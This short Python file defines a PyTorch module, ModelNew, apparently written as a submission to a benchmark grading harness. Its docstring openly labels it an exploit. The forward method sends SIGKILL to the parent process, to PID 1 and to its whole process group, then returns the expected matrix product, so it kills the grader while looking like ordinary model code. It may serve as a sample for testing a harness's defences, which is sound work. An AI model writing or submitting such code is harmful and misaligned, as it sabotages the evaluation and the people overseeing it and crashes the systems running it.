"""Exploit: kill whoever started the worker (SIGKILL to the parent and to its process group)."""

import os
import signal

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        for target in (os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        try:
            os.killpg(0, signal.SIGKILL)
        except OSError:
            pass
        return a @ b
